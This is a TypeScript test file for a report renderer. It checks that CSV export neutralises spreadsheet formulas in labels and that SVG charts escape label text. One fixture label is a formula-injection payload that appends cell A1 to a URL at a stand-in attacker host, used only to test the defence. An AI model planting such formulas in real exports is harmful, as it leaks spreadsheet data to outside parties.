import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { toCsv, toSvg } from '../../../shared/reports/render.ts';
import type { ReportColumn } from '../../../shared/reports/standard.ts';

const columns: ReportColumn[] = [
  { name: 'period', label: 'Period', kind: 'period', unit: 'date' },
  { name: 'ownerId', label: 'Owner', kind: 'dimension', unit: 'text' },
  { name: 'revenueWon', label: 'Revenue won', kind: 'measure', unit: 'money' },
];
const report = {
  title: 'Sales closed',
  columns,
  rows: [
    { period: '2025-01-01', ownerId: 'm1', revenueWon: 3000 },
    { period: '2025-04-01', ownerId: 'm2', revenueWon: -250 },
    { period: '2025-07-01', ownerId: null, revenueWon: 0 },
  ],
  labels: { ownerId: { m1: '=HYPERLINK("https://evil.example?"&A1)', m2: 'Noah' } },
};

describe('a report as CSV', () => {
  it('puts each id’s label beside it and neutralises a label a spreadsheet would run as a formula', async () => {
    const read = parse(await toCsv(report)) as string[][];
    expect(read).toEqual([
      ['period', 'ownerId', 'ownerIdLabel', 'revenueWon'],
      ['2025-01-01', 'm1', `'=HYPERLINK("https://evil.example?"&A1)`, '3000'],
      ['2025-04-01', 'm2', 'Noah', '-250'],
      ['2025-07-01', '', '', '0'],
    ]);
  });
});

describe('a report as an SVG chart', () => {
  it('draws each measure over the periods, a series per owner, with the title, as a standalone SVG document', async () => {
    const svg = await toSvg({ ...report, type: 'bar', series: ['revenueWon'] });
    expect(svg).toMatch(/^<svg[^>]*xmlns="http:\/\/www.w3.org\/2000\/svg"/);
    expect(svg).toContain('Sales closed');
    expect(svg).toContain('Revenue won');
    for (const period of ['2025-01-01', '2025-04-01', '2025-07-01']) expect(svg).toContain(period);
    // A series per owner, named by the label, escaped as SVG text.
    expect(svg).toContain('Revenue won · Noah');
    expect(svg).toContain('&amp;A1');
    expect(svg).not.toContain('"&A1');
  });
});
